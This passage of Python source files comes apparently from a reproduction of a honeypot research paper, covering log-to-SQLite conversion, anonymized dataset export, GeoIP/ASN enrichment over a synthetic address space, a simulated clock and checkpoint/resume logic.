                                             key=event.src_ip)
                record = geoip.lookup(event.src_ip)
                metadata = (record.country, record.asn, record.as_name,
                            record.as_type.value,
                            scanners.is_institutional(event.src_ip,
                                                      record.asn))
                cache[event.src_ip] = metadata
            except Exception:
                obs.current().metrics.inc("resilience.enrich_fallbacks")
                metadata = _FALLBACK
        country, asn, as_name, as_type, institutional = metadata
        append((event.timestamp, event.honeypot_id, event.honeypot_type,
                event.dbms, event.interaction, event.config, event.src_ip,
                event.src_port, event.event_type, event.action,
                event.username, event.password, event.raw, country, asn,
                as_name, as_type, int(institutional)))
    return rows


def open_database(db_path: str | Path) -> sqlite3.Connection:
    """Open a converted database read-only with row access by name."""
    connection = sqlite3.connect(f"file:{Path(db_path)}?mode=ro", uri=True)
    connection.row_factory = sqlite3.Row
    return connection


def read_events(db_path: str | Path) -> Iterator[sqlite3.Row]:
    """Iterate over all event rows of a converted database."""
    connection = open_database(db_path)
    try:
        yield from connection.execute(
            "SELECT * FROM events ORDER BY timestamp, id")
    finally:
        connection.close()


def count_events(db_path: str | Path) -> int:
    """Total number of event rows in a converted database."""
    connection = open_database(db_path)
    try:
        (count,) = connection.execute(
            "SELECT COUNT(*) FROM events").fetchone()
        return count
    finally:
        connection.close()


def group_counts(db_path: str | Path) -> dict[str, int]:
    """Row counts per ``(interaction, dbms, config)`` group, keyed by
    the consolidated raw-log file name each group maps to (see
    :func:`repro.pipeline.logstore.consolidated_group_name`), so the
    audit can line database rows up against raw-log lines."""
    connection = open_database(db_path)
    try:
        return {
            f"{interaction}-{dbms}-{config}.jsonl": count
            for interaction, dbms, config, count in connection.execute(
                "SELECT interaction, dbms, config, COUNT(*) "
                "FROM events GROUP BY interaction, dbms, config")}
    finally:
        connection.close()
