"""Public dataset export (Appendix B of the paper).

The paper releases its raw honeypot logs with three transformations:

* destination (honeypot) addresses are anonymized to ``192.168.0.x``,
* honeypot startup messages and internal-monitoring entries are removed,
* logs of all honeypots sharing a configuration are consolidated into a
  single file.

:func:`export_dataset` applies the same transformations to a
:class:`~repro.pipeline.logstore.LogStore` and writes the dataset
directory, including the README that documents the file/configuration
correspondence.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Iterable

from repro.pipeline.logstore import LogEvent

#: Markers of honeypot startup / internal monitoring entries that the
#: published dataset excludes.
INTERNAL_MARKERS = ("honeypot-startup", "monitoring-probe")


@dataclass(frozen=True)
class DatasetManifest:
    """Summary of one export."""

    directory: Path
    files: tuple[str, ...]
    events: int
    anonymized_hosts: int


def anonymize_hosts(events: Iterable[LogEvent]) -> tuple[list[dict],
                                                         dict[str, str]]:
    """Anonymize honeypot identities to ``192.168.0.x`` pseudo-addresses.

    Each distinct honeypot instance receives one pseudo-address, in
    first-seen order; the mapping is returned for bookkeeping but is
    *not* written into the dataset.
    """
    mapping: dict[str, str] = {}
    rows = []
    for event in events:
        pseudo = mapping.get(event.honeypot_id)
        if pseudo is None:
            pseudo = f"192.168.0.{len(mapping) + 1}"
            mapping[event.honeypot_id] = pseudo
        row = json.loads(event.to_json())
        row["dest_ip"] = pseudo
        del row["honeypot_id"]
        rows.append(row)
    return rows, mapping


def is_internal(event: LogEvent) -> bool:
    """Whether an event is honeypot-internal (excluded from release)."""
    if event.raw is None:
        return False
    return any(marker in event.raw for marker in INTERNAL_MARKERS)


def export_dataset(store: Iterable[LogEvent], directory: str | Path
                   ) -> DatasetManifest:
    """Write the anonymized, consolidated dataset to ``directory``.

    ``store`` is any iterable of events -- a
    :class:`~repro.pipeline.logstore.LogStore`, a
    :class:`~repro.pipeline.sinks.BufferSink`, or a plain list.
    """
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    public = [event for event in store if not is_internal(event)]
    rows, mapping = anonymize_hosts(public)

    groups: dict[str, list[dict]] = {}
    for row in rows:
        name = (f"{row['interaction']}-{row['dbms']}-"
                f"{row['config']}.jsonl")
        groups.setdefault(name, []).append(row)

    files = []
    for name, group_rows in sorted(groups.items()):
        path = directory / name
        with open(path, "w", encoding="utf-8") as handle:
            for row in group_rows:
                handle.write(json.dumps(row, separators=(",", ":"),
                                        ensure_ascii=False) + "\n")
        files.append(name)

    readme = directory / "README.md"
    readme.write_text(_readme_text(groups), encoding="utf-8")
    files.append("README.md")
    return DatasetManifest(directory=directory, files=tuple(files),
                           events=len(rows),
                           anonymized_hosts=len(mapping))


def load_dataset(directory: str | Path) -> list[dict]:
    """Load every record of an exported dataset."""
    records = []
    for path in sorted(Path(directory).glob("*.jsonl")):
        with open(path, encoding="utf-8") as handle:
            for line in handle:
                line = line.strip()
                if line:
                    records.append(json.loads(line))
    return records


def _readme_text(groups: dict[str, list[dict]]) -> str:
    lines = [
        "# Decoy Databases dataset",
        "",
        "Raw honeypot logs from the 20-day deployment "
        "(March 22 - April 11, 2024 window).",
        "",
        "Destination addresses are anonymized to 192.168.0.x; honeypot",
        "startup messages and internal monitoring entries have been",
        "removed. Logs of all honeypots sharing a configuration are",
        "consolidated into one file, so individual instances within a",
        "configuration cannot be distinguished.",
        "",
        "| File | Interaction | DBMS | Configuration | Events |",
        "|---|---|---|---|---|",
    ]
    for name, rows in sorted(groups.items()):
        first = rows[0]
        lines.append(f"| {name} | {first['interaction']} | "
                     f"{first['dbms']} | {first['config']} | "
                     f"{len(rows)} |")
    return "\n".join(lines) + "\n"
