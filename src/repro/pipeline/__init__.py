"""Data-processing pipeline (Figure 1 of the paper).

Honeypots write structured log events (:mod:`repro.pipeline.logstore`);
conversion scripts turn them into queryable SQLite databases
(:mod:`repro.pipeline.convert`), enriching each client IP with GeoIP/ASN
metadata (:mod:`repro.pipeline.enrich`) and tagging institutional
scanners (:mod:`repro.pipeline.institutional`).
"""

from repro.pipeline.logstore import EventType, LogEvent, LogStore
from repro.pipeline.convert import convert_to_sqlite, read_events
from repro.pipeline.enrich import enrich_events
from repro.pipeline.institutional import InstitutionalScannerList

__all__ = [
    "EventType",
    "LogEvent",
    "LogStore",
    "convert_to_sqlite",
    "read_events",
    "enrich_events",
    "InstitutionalScannerList",
]
