"""GeoIP/ASN enrichment (Figure 1, step 3).

Every client IP appearing in the honeypot logs is annotated with its
country, AS number, AS name, Appendix-D AS type, and whether it belongs
to a known institutional scanner.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Iterator

from repro import obs
from repro.netsim.asdb import ASType
from repro.netsim.geoip import GeoIPDatabase
from repro.pipeline.institutional import InstitutionalScannerList
from repro.pipeline.logstore import LogEvent
from repro.resilience import faults

#: Metadata applied when a lookup fails: the event is kept, attributed
#: to an unknown origin, rather than dropped.
_FALLBACK = ("Unknown", None, "Unknown", ASType.UNKNOWN.value, False)


@dataclass(frozen=True, slots=True)
class EnrichedEvent:
    """A log event plus source metadata."""

    event: LogEvent
    country: str
    asn: int | None
    as_name: str
    as_type: str
    institutional: bool


def enrich_iter(events: Iterable[LogEvent], geoip: GeoIPDatabase,
                scanners: InstitutionalScannerList | None = None,
                cache: dict | None = None) -> Iterator[EnrichedEvent]:
    """Lazily annotate ``events`` with GeoIP/ASN/institutional metadata.

    Lookups are cached per source IP, as the pipeline processes millions
    of events from a few thousand sources.  Pass ``cache`` to share the
    lookup cache across several calls (the chunked SQLite converter
    enriches one chunk at a time but must not re-resolve every IP per
    chunk).
    """
    scanners = scanners or InstitutionalScannerList()
    if cache is None:
        cache = {}
    for event in events:
        metadata = cache.get(event.src_ip)
        if metadata is None:
            try:
                # Keyed by IP so the decision is independent of lookup
                # order: the low and mid/high conversions enrich on
                # concurrent writer threads, and an order-seeded draw
                # would make the fault schedule a race.
                faults.current().maybe_raise("enrich.lookup",
                                             key=event.src_ip)
                record = geoip.lookup(event.src_ip)
                metadata = (record.country, record.asn, record.as_name,
                            record.as_type.value,
                            scanners.is_institutional(event.src_ip,
                                                      record.asn))
                # Only successes are cached: a transient failure must
                # not pin an IP to "Unknown" for the rest of the run.
                cache[event.src_ip] = metadata
            except Exception:
                obs.current().metrics.inc("resilience.enrich_fallbacks")
                metadata = _FALLBACK
        country, asn, as_name, as_type, institutional = metadata
        yield EnrichedEvent(event, country, asn, as_name, as_type,
                            institutional)


def enrich_events(events: Iterable[LogEvent], geoip: GeoIPDatabase,
                  scanners: InstitutionalScannerList | None = None,
                  ) -> list[EnrichedEvent]:
    """Eager variant of :func:`enrich_iter` (kept for small batches)."""
    return list(enrich_iter(events, geoip, scanners))
