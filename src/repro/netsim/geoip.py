"""GeoLite-style IP geolocation and ASN lookup.

The paper enriches every client IP with country and AS metadata from the
MaxMind GeoLite database of April 2024 (Figure 1, step 3).  The
reproduction's :class:`GeoIPDatabase` serves the same query -- built as a
frozen snapshot of the synthetic :class:`~repro.netsim.address_space.AddressSpace`
so the enrichment pipeline is decoupled from the allocator, just as the
paper's pipeline is decoupled from the Internet.
"""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass

from repro.netsim.address_space import AddressSpace
from repro.netsim.asdb import ASType


@dataclass(frozen=True)
class GeoRecord:
    """Result of a GeoIP lookup."""

    ip: str
    country: str
    asn: int | None
    as_name: str
    as_type: ASType

    @property
    def known(self) -> bool:
        """Whether the address resolved to a registered AS."""
        return self.asn is not None


#: Record returned for addresses absent from the snapshot.
_UNMAPPED = ("Unknown", None, "Unknown", ASType.UNKNOWN)


class GeoIPDatabase:
    """Frozen IP -> (country, ASN, AS name, AS type) snapshot."""

    def __init__(self, records: dict[int, tuple[str, int, str, ASType]]):
        self._records = records

    @classmethod
    def from_address_space(cls, space: AddressSpace) -> "GeoIPDatabase":
        """Snapshot all currently allocated addresses of ``space``."""
        records: dict[int, tuple[str, int, str, ASType]] = {}
        for system in space.systems():
            base = int(system.prefix.network_address)
            for offset in range(1, _hosts_allocated(space, system.asn) + 1):
                ip_int = base + offset
                country = space.lookup_country(
                    ipaddress.IPv4Address(ip_int))
                if country is None:
                    continue
                records[ip_int] = (country, system.asn, system.name,
                                   system.as_type)
        return cls(records)

    def lookup(self, ip: str | ipaddress.IPv4Address) -> GeoRecord:
        """Resolve ``ip``; unmapped addresses yield an ``Unknown`` record."""
        addr = ipaddress.IPv4Address(ip)
        country, asn, as_name, as_type = self._records.get(
            int(addr), _UNMAPPED)
        return GeoRecord(str(addr), country, asn, as_name, as_type)

    def __len__(self) -> int:
        return len(self._records)


def _hosts_allocated(space: AddressSpace, asn: int) -> int:
    """Number of host addresses handed out from ``asn``'s prefix."""
    # The allocator hands out hosts 1..n-1 sequentially; _next_host is the
    # next free index, so n-1 addresses are live.
    return space._next_host[asn] - 1
