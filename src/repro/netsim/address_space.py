"""Synthetic IPv4 address space carved into autonomous systems.

Each :class:`AutonomousSystem` owns one /16 prefix, assigned sequentially
by the :class:`AddressSpace`.  Individual addresses are allocated from an
AS's prefix on demand and annotated with a geolocation country which may
differ from the AS registration country -- mirroring the paper's finding
that the dominant Russian brute-forcers used AS208091, a hoster registered
in the UK.
"""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass

from repro.netsim.asdb import ASDatabase, ASType

#: First /16 handed out; avoids private/reserved low ranges.
_FIRST_PREFIX_BASE = int(ipaddress.IPv4Address("20.0.0.0"))

#: Hosts per /16 prefix.
_PREFIX_SIZE = 1 << 16


@dataclass(frozen=True)
class AutonomousSystem:
    """A registered autonomous system.

    Attributes
    ----------
    asn:
        The AS number.
    name:
        Organization name, e.g. ``"GOOGLE-CLOUD-PLATFORM"``.
    registered_country:
        ISO-like country name where the AS is registered.
    as_type:
        Appendix-D category of the operating organization.
    prefix:
        The /16 IPv4 prefix owned by this AS.
    """

    asn: int
    name: str
    registered_country: str
    as_type: ASType
    prefix: ipaddress.IPv4Network


class AddressSpace:
    """Allocator and reverse index for the synthetic address space."""

    def __init__(self) -> None:
        self._systems: dict[int, AutonomousSystem] = {}
        self._next_prefix_index = 0
        self._next_host: dict[int, int] = {}
        self._ip_country: dict[int, str] = {}
        self._ip_asn: dict[int, int] = {}
        self.asdb = ASDatabase()

    def register_as(self, asn: int, name: str, registered_country: str,
                    as_type: ASType) -> AutonomousSystem:
        """Register an AS and assign it the next free /16 prefix.

        Returns the existing record when ``asn`` is already registered
        with identical attributes; raises :class:`ValueError` on a
        conflicting re-registration.
        """
        existing = self._systems.get(asn)
        if existing is not None:
            if (existing.name, existing.registered_country,
                    existing.as_type) != (name, registered_country, as_type):
                raise ValueError(f"conflicting re-registration of AS{asn}")
            return existing
        base = _FIRST_PREFIX_BASE + self._next_prefix_index * _PREFIX_SIZE
        prefix = ipaddress.IPv4Network((base, 16))
        self._next_prefix_index += 1
        system = AutonomousSystem(asn, name, registered_country, as_type,
                                  prefix)
        self._systems[asn] = system
        self._next_host[asn] = 1
        self.asdb.register(asn, as_type)
        return system

    def allocate(self, asn: int,
                 country: str | None = None) -> ipaddress.IPv4Address:
        """Allocate the next unused address from ``asn``'s prefix.

        Parameters
        ----------
        asn:
            The AS to allocate from; must be registered.
        country:
            Geolocation country of the new address.  Defaults to the AS
            registration country.

        Raises
        ------
        KeyError
            If ``asn`` is not registered.
        RuntimeError
            If the AS prefix is exhausted.
        """
        system = self._systems[asn]
        host = self._next_host[asn]
        if host >= _PREFIX_SIZE - 1:
            raise RuntimeError(f"prefix of AS{asn} exhausted")
        self._next_host[asn] = host + 1
        ip_int = int(system.prefix.network_address) + host
        self._ip_country[ip_int] = country or system.registered_country
        self._ip_asn[ip_int] = asn
        return ipaddress.IPv4Address(ip_int)

    def system(self, asn: int) -> AutonomousSystem:
        """Return the :class:`AutonomousSystem` record for ``asn``."""
        return self._systems[asn]

    def systems(self) -> list[AutonomousSystem]:
        """Return all registered systems, in registration order."""
        return list(self._systems.values())

    def lookup_asn(self, ip: str | ipaddress.IPv4Address) -> int | None:
        """Return the AS number owning ``ip``, or ``None`` if unallocated."""
        return self._ip_asn.get(int(ipaddress.IPv4Address(ip)))

    def lookup_country(self, ip: str | ipaddress.IPv4Address) -> str | None:
        """Return the geolocation country of ``ip``, or ``None``."""
        return self._ip_country.get(int(ipaddress.IPv4Address(ip)))

    def allocated(self) -> int:
        """Return the total number of allocated addresses."""
        return len(self._ip_asn)
