"""AS-type classification (the paper's Appendix D taxonomy).

The paper manually classifies every autonomous system observed at the
honeypots into one of nine categories, cross-referenced against ASdb.
:class:`ASDatabase` is the offline stand-in: a registry mapping AS numbers
to :class:`ASType` values, queried by the enrichment pipeline.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field


class ASType(enum.Enum):
    """AS categories from Appendix D of the paper."""

    BUSINESS = "Business"
    HOSTING = "Hosting"
    ICT = "ICT Service"
    IP_SERVICE = "IP Service"
    SECURITY = "Security"
    TELECOM = "Telecom"
    UNIVERSITY = "University"
    VPN = "VPN"
    UNKNOWN = "Unknown"


@dataclass
class ASDatabase:
    """Registry of AS number -> :class:`ASType`.

    Unregistered AS numbers classify as :attr:`ASType.UNKNOWN`, matching
    the paper's handling of organizations that could not be identified.
    """

    _types: dict[int, ASType] = field(default_factory=dict)

    def register(self, asn: int, as_type: ASType) -> None:
        """Record the classification for ``asn``.

        Raises
        ------
        ValueError
            If ``asn`` is already registered with a different type.
        """
        existing = self._types.get(asn)
        if existing is not None and existing is not as_type:
            raise ValueError(
                f"AS{asn} already classified as {existing.value}, "
                f"refusing to reclassify as {as_type.value}")
        self._types[asn] = as_type

    def classify(self, asn: int | None) -> ASType:
        """Return the type of ``asn`` (``UNKNOWN`` when unregistered)."""
        if asn is None:
            return ASType.UNKNOWN
        return self._types.get(asn, ASType.UNKNOWN)

    def __contains__(self, asn: int) -> bool:
        return asn in self._types

    def __len__(self) -> int:
        return len(self._types)
