"""Internet-simulation substrate.

The paper's data source is the live Internet: honeypots on public IP
addresses receiving traffic from real adversaries.  This package provides
the synthetic replacement used by the reproduction:

* :mod:`repro.netsim.clock` -- a simulated wall clock so a 20-day
  deployment runs in seconds,
* :mod:`repro.netsim.address_space` -- an IPv4 address space carved into
  autonomous systems,
* :mod:`repro.netsim.asdb` -- the AS-type registry mirroring the paper's
  manual/ASdb classification (Appendix D),
* :mod:`repro.netsim.geoip` -- a GeoLite-style IP -> (country, ASN) lookup,
* :mod:`repro.netsim.mockaroo` -- a deterministic fake-data generator
  standing in for the Mockaroo service used to populate honeypots.
"""

from repro.netsim.address_space import AddressSpace, AutonomousSystem
from repro.netsim.asdb import ASType, ASDatabase
from repro.netsim.clock import SimClock
from repro.netsim.geoip import GeoIPDatabase, GeoRecord
from repro.netsim.mockaroo import MockarooGenerator

__all__ = [
    "AddressSpace",
    "AutonomousSystem",
    "ASType",
    "ASDatabase",
    "SimClock",
    "GeoIPDatabase",
    "GeoRecord",
    "MockarooGenerator",
]
