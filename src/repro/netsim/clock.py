"""Simulated wall clock.

Every timestamp in the reproduction flows from a :class:`SimClock` so that
the 20-day deployment window of the paper (March 22 -- April 11, 2024) can
be replayed deterministically and quickly.  Honeypots, agents, and the log
pipeline never call ``time.time()`` or ``datetime.now()`` directly.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone

#: Start of the paper's deployment window (March 22nd, 2024, UTC).
EXPERIMENT_START = datetime(2024, 3, 22, 0, 0, 0, tzinfo=timezone.utc)

#: End of the paper's deployment window (April 11th, 2024, UTC).
EXPERIMENT_END = datetime(2024, 4, 11, 0, 0, 0, tzinfo=timezone.utc)

#: Length of the deployment, in days.
EXPERIMENT_DAYS = (EXPERIMENT_END - EXPERIMENT_START).days


@dataclass
class SimClock:
    """A monotonically advancing simulated clock.

    Parameters
    ----------
    start:
        Initial simulated time.  Defaults to the paper's deployment start.

    Examples
    --------
    >>> clock = SimClock()
    >>> clock.now().isoformat()
    '2024-03-22T00:00:00+00:00'
    >>> clock.advance(seconds=90)
    >>> clock.elapsed().total_seconds()
    90.0
    """

    start: datetime = EXPERIMENT_START
    _current: datetime = field(init=False)
    _timestamp: float | None = field(init=False, default=None)

    def __post_init__(self) -> None:
        if self.start.tzinfo is None:
            raise ValueError("SimClock requires a timezone-aware start time")
        self._current = self.start

    def now(self) -> datetime:
        """Return the current simulated time."""
        return self._current

    def timestamp(self) -> float:
        """Return the current simulated time as a POSIX timestamp.

        The conversion is cached until the clock next moves: replay
        seeks once per visit but stamps every event, so this is called
        ~160k times per run against a handful of distinct instants.
        """
        ts = self._timestamp
        if ts is None:
            ts = self._timestamp = self._current.timestamp()
        return ts

    def advance(self, *, days: float = 0, hours: float = 0,
                minutes: float = 0, seconds: float = 0) -> None:
        """Advance the clock by the given offset.

        Raises
        ------
        ValueError
            If the total offset is negative; simulated time never rewinds.
        """
        delta = timedelta(days=days, hours=hours, minutes=minutes,
                          seconds=seconds)
        if delta < timedelta(0):
            raise ValueError("cannot advance the clock backwards")
        self._current += delta
        self._timestamp = None

    def seek(self, target: datetime) -> None:
        """Jump forward to ``target``.

        Raises
        ------
        ValueError
            If ``target`` lies before the current simulated time.
        """
        if target < self._current:
            raise ValueError(
                f"cannot seek backwards: {target} < {self._current}")
        self._current = target
        self._timestamp = None

    def elapsed(self) -> timedelta:
        """Return the time elapsed since the clock was created."""
        return self._current - self.start

    def day_index(self) -> int:
        """Return the zero-based day of the experiment for the current time."""
        return self.elapsed().days

    def hour_index(self) -> int:
        """Return the zero-based hour of the experiment for the current time."""
        return int(self.elapsed().total_seconds() // 3600)
