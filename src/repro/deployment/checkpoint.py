"""Checkpoint/resume machinery for the experiment driver.

Two halves:

* :class:`Checkpointer` -- called by the driver's sink loop during a
  checkpointed run.  Every ``interval`` seconds it runs the **sink
  commit barrier** (SQLite writer ``commit()`` -- flush + WAL
  checkpoint + fsync -- plus raw-log and dead-letter fsync), then
  appends one checkpoint record to the run journal.  The ordering is
  the whole invariant: the journal only ever *under*-claims, so every
  row a checkpoint names is provably on disk.

* :func:`prepare_resume` -- called before a ``repro run --resume``
  builds its sinks.  It reads the journal, adopts the original run's
  identity (seed, scale, fault plan -- minus ``proc.kill``, so a
  worker-kill chaos run cannot re-kill itself at the same visit
  forever), picks the restore checkpoint, proves the on-disk databases
  match it (chained content digest of the committed prefix), and
  idempotently truncates every output file to its committed length --
  uncommitted SQLite tail rows, raw-log bytes, dead-letter records.

The resume is then just a normal run with a *watermark*: the replay
engines re-replay the committed prefix (honeypots are stateful, so
their state must be rebuilt visit by visit -- with the same
``{seed}:{ip}:{seq}`` RNG derivation and keyed fault decisions, the
rebuild is exact) while stripping its events, and the sinks append
from exactly where the crash left them.
"""

from __future__ import annotations

import dataclasses
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

from repro import obs
from repro.obs import live as obs_live
from repro.pipeline.convert import (DIGEST_SEED, prefix_digest,
                                    truncate_events)
from repro.resilience import faults
from repro.runtime import journal as run_journal

__all__ = [
    "Checkpointer", "ResumeError", "ResumeState", "ResumeUnnecessary",
    "prepare_resume",
]

#: The fault site a resume always disarms from an adopted plan.
KILL_SITE = "proc.kill"


class ResumeError(RuntimeError):
    """A resume was requested but cannot proceed safely (exit 1)."""


class ResumeUnnecessary(ResumeError):
    """The journal records a completed run -- nothing to resume."""


@dataclass
class ResumeState:
    """Everything :func:`prepare_resume` hands back to the driver."""

    mode: str
    run_id: str | None
    #: Canonical ``(offset, ip, seq)`` of the last committed visit;
    #: ``None`` means restart from scratch (no valid checkpoint).
    watermark: tuple[float, str, int] | None
    from_seq: int | None
    #: Journal records (header + adopted checkpoints) to rewrite; empty
    #: when the header itself was unreadable (force-scratch).
    records: list[dict] = field(default_factory=list)
    #: Driver-loop counters at the restore point.
    counters: dict = field(default_factory=dict)
    #: Sink resume arguments.
    low: tuple[int, str] | None = None
    midhigh: tuple[int, str] | None = None
    raw: dict[str, int] | None = None
    dead_letter: tuple[int, int] | None = None
    counting: dict | None = None
    #: Per-checkpoint metric snapshot deltas to fold back into the
    #: driver registry (sink/driver-side metrics for the committed
    #: prefix, which the fast-forward deliberately does not recount).
    metrics: list[dict] = field(default_factory=list)
    schedule_digest: str | None = None
    visits_total: int | None = None
    disarmed_sites: list[str] = field(default_factory=list)
    torn_tail: bool = False
    dropped_records: int = 0
    truncated: dict = field(default_factory=dict)


def _quarantine_path(output_dir: Path) -> Path:
    from repro.deployment.experiment import QUARANTINE_FILENAME

    return output_dir / QUARANTINE_FILENAME


def _raw_dir(output_dir: Path) -> Path:
    from repro.deployment.experiment import RAW_LOG_DIRNAME

    return output_dir / RAW_LOG_DIRNAME


def checkpoint_valid(output_dir: Path, record: dict,
                      header: dict) -> str | None:
    """Why ``record`` cannot be the restore point, or ``None`` if it
    can: both database prefixes re-digest to the recorded values and
    every auxiliary file still holds at least its committed bytes."""
    for tier in ("low", "midhigh"):
        state = record.get(tier) or {}
        rows = int(state.get("rows", 0))
        recorded = state.get("digest") or DIGEST_SEED.hex()
        actual = prefix_digest(output_dir / f"{tier}.sqlite", rows)
        if actual is None:
            return (f"{tier}.sqlite holds fewer than the {rows} rows "
                    f"checkpoint {record.get('seq')} committed")
        if actual != recorded:
            return (f"{tier}.sqlite content digest mismatch at "
                    f"checkpoint {record.get('seq')} (committed prefix "
                    f"of {rows} rows was modified)")
    if header.get("write_raw_logs"):
        for name, size in (record.get("raw") or {}).items():
            path = _raw_dir(output_dir) / name
            if not path.exists() or path.stat().st_size < size:
                return f"raw log {name} shorter than its committed size"
    dead = record.get("dead_letter") or {}
    if dead.get("bytes"):
        path = _quarantine_path(output_dir)
        if not path.exists() or path.stat().st_size < dead["bytes"]:
            return "dead letter shorter than its committed size"
    return None


def _truncate_outputs(output_dir: Path, record: dict,
                      header: dict) -> dict:
    """Idempotently cut every output back to the checkpoint: delete
    uncommitted SQLite tail rows, trim raw logs and the dead letter to
    their committed byte lengths, drop unknown raw-log groups."""
    import os

    removed = {}
    for tier in ("low", "midhigh"):
        rows = int((record.get(tier) or {}).get("rows", 0))
        removed[f"{tier}_rows"] = truncate_events(
            output_dir / f"{tier}.sqlite", rows)
    if header.get("write_raw_logs"):
        committed = record.get("raw") or {}
        raw_dir = _raw_dir(output_dir)
        dropped = 0
        trimmed = 0
        if raw_dir.exists():
            for path in raw_dir.glob("*.jsonl"):
                size = committed.get(path.name)
                if size is None:
                    path.unlink()
                    dropped += 1
                elif path.stat().st_size > size:
                    os.truncate(path, size)
                    trimmed += 1
        removed["raw_dropped"] = dropped
        removed["raw_trimmed"] = trimmed
    dead = record.get("dead_letter") or {}
    quarantine = _quarantine_path(output_dir)
    if quarantine.exists():
        committed_bytes = int(dead.get("bytes", 0))
        if committed_bytes == 0:
            quarantine.unlink()
        elif quarantine.stat().st_size > committed_bytes:
            os.truncate(quarantine, committed_bytes)
    return removed


def _scratch_outputs(output_dir: Path, header: dict | None) -> None:
    """Reset the output dir for a from-scratch restart: the sinks will
    rebuild the databases, but stale raw logs and dead letters from the
    crashed attempt must not leak into the new run."""
    quarantine = _quarantine_path(output_dir)
    if quarantine.exists():
        quarantine.unlink()
    raw_dir = _raw_dir(output_dir)
    if raw_dir.exists():
        for path in raw_dir.glob("*.jsonl"):
            path.unlink()


def _rotate_flight_dumps(output_dir: Path, attempt: int) -> int:
    """Keep crash flight dumps from the crashed attempt out of the
    resumed run's way (they are evidence, not state)."""
    rotated = 0
    for path in sorted(output_dir.glob("flight_*.jsonl")):
        path.rename(path.with_name(f"{path.name}.resume{attempt}"))
        rotated += 1
    return rotated


def _adopt_config(config, header: dict):
    """A resumed run continues *the original run*: its seed, scale, and
    fault plan come from the journal header, not the command line.
    Execution-side knobs (workers, executor, telemetry, live) stay the
    caller's -- resume determinism is independent of worker count."""
    plan = None
    disarmed: list[str] = []
    fault = header.get("fault")
    if fault:
        plan = faults.plan_from_dict(fault.get("sites", {}),
                                     seed=int(fault.get("seed", 0)),
                                     name=fault.get("name", "resumed"))
        if KILL_SITE in plan.sites:
            plan = plan.without_site(KILL_SITE)
            disarmed.append(KILL_SITE)
    interval = (config.checkpoint_interval
                if config.checkpoint_interval > 0
                else float(header.get("checkpoint_interval", 0.0)) or 1.0)
    config = dataclasses.replace(
        config,
        seed=int(header["seed"]),
        volume_scale=float(header["volume_scale"]),
        write_raw_logs=bool(header.get("write_raw_logs", False)),
        export_dataset=False,
        fault_plan=plan,
        checkpoint_interval=interval)
    return config, disarmed


def prepare_resume(config):
    """Validate the run journal and prepare the output dir for resume.

    Returns ``(ResumeState, adopted_config)``.  Raises
    :class:`ResumeUnnecessary` when the journal records a completed
    run, and :class:`ResumeError` (strict mode) when the journal or the
    databases fail validation; ``--resume=force`` falls back to the
    newest checkpoint that *does* validate, or to a from-scratch
    restart.
    """
    output_dir = Path(config.output_dir)
    mode = config.resume or "latest"
    force = mode == "force"
    try:
        view = run_journal.read_journal(output_dir, force=force)
    except run_journal.JournalError as error:
        raise ResumeError(str(error)) from error
    if view.complete is not None:
        raise ResumeUnnecessary(
            f"run {view.header.get('run_id') if view.header else '?'} "
            f"at {output_dir} already completed; nothing to resume")

    if view.header is None:
        # Force mode with an unreadable header: nothing can be adopted
        # or trusted -- restart from scratch with the caller's config.
        _scratch_outputs(output_dir, None)
        _rotate_flight_dumps(output_dir, 1)
        print(f"resume: journal at {view.path} unreadable; restarting "
              f"from scratch (--resume=force)", file=sys.stderr)
        return ResumeState(mode=mode, run_id=None, watermark=None,
                           from_seq=None, dropped_records=view.dropped,
                           torn_tail=view.torn_tail), config

    header = view.header
    config, disarmed = _adopt_config(config, header)

    # Pick the restore point.  Strict mode trusts only the newest
    # checkpoint -- the commit barrier guarantees its rows are durable,
    # so a mismatch means the databases were modified and deserves a
    # refusal, not a silent walk-back.  Force mode walks back to the
    # newest checkpoint that still validates, then to scratch.
    candidates = list(reversed(view.checkpoints))
    if not force:
        candidates = candidates[:1]
    chosen = None
    reason = "the journal holds no checkpoints"
    for record in candidates:
        reason = checkpoint_valid(output_dir, record, header)
        if reason is None:
            chosen = record
            break
        if not force:
            raise ResumeError(
                f"cannot resume from {view.path}: {reason} "
                f"(--resume=force falls back to an older checkpoint "
                f"or a from-scratch restart)")
        print(f"resume: skipping checkpoint "
              f"{record.get('seq')}: {reason}", file=sys.stderr)

    attempt = len(view.resumes) + 1
    if chosen is None:
        if not force and view.checkpoints:
            raise ResumeError(
                f"cannot resume from {view.path}: {reason}")
        # Valid journal, but nothing durable yet (killed before the
        # first checkpoint) or force walked all the way back: restart
        # from scratch under the adopted identity.
        _scratch_outputs(output_dir, header)
        _rotate_flight_dumps(output_dir, attempt)
        state = ResumeState(
            mode=mode, run_id=header.get("run_id"), watermark=None,
            from_seq=None, records=[header],
            schedule_digest=header.get("schedule_digest"),
            visits_total=header.get("visits_total"),
            disarmed_sites=disarmed, torn_tail=view.torn_tail,
            dropped_records=view.dropped)
        print(f"resume: no durable checkpoint at {output_dir}; "
              f"restarting run {header.get('run_id')} from scratch",
              file=sys.stderr)
        return state, config

    seq = int(chosen["seq"])
    kept = view.checkpoints[:seq + 1]
    truncated = _truncate_outputs(output_dir, chosen, header)
    _rotate_flight_dumps(output_dir, attempt)
    state = ResumeState(
        mode=mode, run_id=header.get("run_id"),
        watermark=tuple(chosen["watermark"]),
        from_seq=seq, records=[header, *kept],
        counters=dict(chosen.get("counters") or {}),
        low=(int(chosen["low"]["rows"]), chosen["low"]["digest"]),
        midhigh=(int(chosen["midhigh"]["rows"]),
                 chosen["midhigh"]["digest"]),
        raw=(dict(chosen.get("raw") or {})
             if header.get("write_raw_logs") else None),
        dead_letter=((int(chosen["dead_letter"]["bytes"]),
                      int(chosen["dead_letter"]["count"]))
                     if chosen.get("dead_letter") else (0, 0)),
        counting=chosen.get("counting"),
        metrics=[record["metrics_delta"] for record in kept
                 if record.get("metrics_delta")],
        schedule_digest=header.get("schedule_digest"),
        visits_total=header.get("visits_total"),
        disarmed_sites=disarmed, torn_tail=view.torn_tail,
        dropped_records=view.dropped, truncated=truncated)
